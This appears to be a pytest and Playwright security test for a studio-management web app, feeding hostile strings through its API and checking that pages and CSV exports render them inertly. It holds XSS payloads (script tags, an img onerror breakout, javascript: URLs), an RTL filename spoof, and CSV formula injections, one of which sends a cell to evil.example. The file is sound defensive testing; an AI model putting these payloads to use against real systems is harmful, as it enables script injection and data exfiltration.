"""Hostile strings, as an attacker would push them through the API, opened on every page
in Chromium and downloaded as CSV: nothing executes, nothing injects.

Every page is loaded under the real Content-Security-Policy; the test listens for
`securitypolicyviolation` events and CSP console errors (a page that needed an inline
script or style would report one even with no hostile data), for dialogs (`alert`) and
for a marker the hostile scripts would set.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
import requests
from playwright.sync_api import Page

from api.services import generate_api_key
from contacts.models import Contact
from core.csvsafe import FORMULA_PREFIXES
from galleries.providers.pictime.orders import map_order
from inbox.models import InboxItem
from reports.tables import TABLES
from sales.models import Sale
from shoots.models import Shoot
from testkit.fixtures import DEMO_PASSWORD
from testkit.payloads import order_json

pytestmark = pytest.mark.browser

SCRIPT = "<script>window.__pwned=1;alert('script')</script>"
ATTRIBUTE = '"><img src=x onerror="window.__pwned=1;alert(\'img\')">'
JS_URL = "javascript:window.__pwned=1;alert('link')"
RTL = "Ann\u202egpj.exe"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
]
NAMES = [SCRIPT, ATTRIBUTE, RTL, *FORMULAS]

WATCH = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(e.violatedDirective + " " + e.blockedURI + " " + (e.sample || ""));
});
"""


@dataclass
class Watcher:
    """What went wrong on the pages seen so far, by page."""

    problems: list[str] = field(default_factory=list)

    def attach(self, page: Page) -> None:
        page.context.add_init_script(WATCH)
        page.on("dialog", lambda d: (self.problems.append(f"dialog: {d.message}"), d.dismiss()))
        page.on("console", self._console)
        page.on("pageerror", lambda e: self.problems.append(f"page error: {e}"))

    def _console(self, message) -> None:  # type: ignore[no-untyped-def]
        if "Content Security Policy" in message.text or "Content-Security-Policy" in message.text:
            self.problems.append(f"console: {message.text}")

    def visit(self, page: Page, url: str) -> None:
        before = len(self.problems)
        response = page.goto(url)
        assert response is not None and response.status == 200, url
        page.wait_for_load_state("load")
        violations = page.evaluate("window.__csp")
        self.problems += [f"CSP: {v}" for v in violations]
        if page.evaluate("window.__pwned === 1"):
            self.problems.append("hostile script ran")
        links = page.eval_on_selector_all("a[href]", "els => els.map(a => a.getAttribute('href'))")
        self.problems += [f"link: {h}" for h in links if not _safe_href(h)]
        self.problems[before:] = [f"{url}: {p}" for p in self.problems[before:]]


def _safe_href(href: str) -> bool:
    return href.startswith(("/", "?", "#", "http://", "https://", "mailto:", "tel:"))


def push_hostile_data(base_url: str, key: str) -> None:
    """Orders, an enquiry and contacts carrying every hostile string, through the API."""
    api = requests.Session()
    api.headers["Authorization"] = f"Bearer {key}"
    for index, name in enumerate(NAMES):
        order = map_order(
            order_json(order_id=f"ord_{index}", first_name=name, last_name=FORMULAS[0])
        ).model_dump(mode="json")
        order["provider"] = "theimagefile"
        order["gallery"] = {**order["gallery"], "name": name, "url": JS_URL}
        order["lines"][0]["name"] = name
        response = api.post(f"{base_url}/api/v1/inbox/orders", json=order, timeout=30)
        assert response.status_code == 201, response.text
        contact = api.post(
            f"{base_url}/api/v1/contacts",
            json={"first_name": name, "last_name": RTL, "company": SCRIPT, "notes": ATTRIBUTE},
            timeout=30,
        )
        assert contact.status_code == 201, contact.text
        sale = api.post(
            f"{base_url}/api/v1/sales",
            json={
                "contact_id": contact.json()["id"],
                "sale_date": "2026-05-01",
                "currency": "GBP",
                "notes": SCRIPT,
                "external_ref": f"{FORMULAS[1]}{index}",
                "lines": [{"description": name, "unit_price_minor": 1000 + index}],
            },
            timeout=30,
        )
        assert sale.status_code == 201, sale.text
    shoot = api.post(
        f"{base_url}/api/v1/shoots",
        json={
            "title": SCRIPT,
            "shoot_type": "wedding",
            "starts_at": "2026-06-20T15:00:00+01:00",
            "location": ATTRIBUTE,
        },
        timeout=30,
    )
    assert shoot.status_code == 201, shoot.text
    # A gallery URL that some other path stored: the pages must still not link it.
    Shoot.objects.update(gallery_url=JS_URL)
    Sale.objects.update(gallery_url=JS_URL)


def main_pages() -> Iterator[str]:
    yield from ["/", "/contacts/", "/contacts/new/", "/shoots/", "/shoots/new/"]
    yield from ["/sales/", "/sales/new/", "/inbox/", "/galleries/settings/"]
    yield from ["/reports/", "/reports/segments/", "/reports/opportunities/", "/reports/sales/"]
    yield from ["/accounts/preferences/", "/accounts/password/"]
    yield from ["/preferences/integrations/api/", "/api/docs"]
    for contact in Contact.objects.all():
        yield from [f"/contacts/{contact.pk}/", f"/contacts/{contact.pk}/edit/"]
    first, second = Contact.objects.all()[:2]
    yield f"/contacts/{first.pk}/merge/{second.pk}/"
    for shoot in Shoot.objects.all():
        yield from [f"/shoots/{shoot.pk}/", f"/shoots/{shoot.pk}/edit/"]
    for sale in Sale.objects.all():
        yield from [f"/sales/{sale.pk}/", f"/sales/{sale.pk}/edit/"]
    for item in InboxItem.objects.all():
        yield f"/inbox/{item.pk}/"


def log_in(page: Page, base_url: str, email: str) -> None:
    page.goto(f"{base_url}/accounts/login/")
    page.get_by_label("Email address").fill(email)
    page.get_by_label("Password").fill(DEMO_PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url(f"{base_url}/")


@pytest.fixture
def hostile_studio(live_server, studio_factory, transactional_db):
    studio, owner = studio_factory("Lumen Studio", default_currency="GBP", country="GB")
    push_hostile_data(live_server.url, generate_api_key(studio=studio, name="Attacker")[1])
    return studio, owner


def test_every_page_shows_hostile_strings_inertly_under_the_csp(
    page: Page, live_server, hostile_studio
):
    _studio, owner = hostile_studio
    watcher = Watcher()
    watcher.attach(page)
    watcher.visit(page, f"{live_server.url}/accounts/login/")
    log_in(page, live_server.url, owner.email)
    pages = list(main_pages())
    for path in pages:
        watcher.visit(page, f"{live_server.url}{path}")
    assert watcher.problems == [], "\n".join(watcher.problems)
    assert len(pages) > 30
    # The strings are on the pages, as text.
    page.goto(f"{live_server.url}/contacts/")
    assert page.get_by_text("<script>window.__pwned", exact=False).count() > 0


def test_the_import_window_is_csp_clean(page: Page, live_server, hostile_studio):
    _studio, owner = hostile_studio
    watcher = Watcher()
    watcher.attach(page)
    log_in(page, live_server.url, owner.email)
    for item in InboxItem.objects.all():
        watcher.visit(page, f"{live_server.url}/inbox/{item.pk}/import/")
    assert watcher.problems == [], "\n".join(watcher.problems)


def test_csv_downloads_start_no_formula(page: Page, live_server, hostile_studio):
    _studio, owner = hostile_studio
    log_in(page, live_server.url, owner.email)
    cells = []
    for key in TABLES:
        response = page.request.get(f"{live_server.url}/reports/download/{key}.csv")
        assert response.status == 200, key
        cells += [cell for row in csv.reader(io.StringIO(response.text())) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    # The hostile names were exported (as text), so the check above saw them.
    assert [cell for cell in cells if cell.startswith("'=HYPERLINK(")]
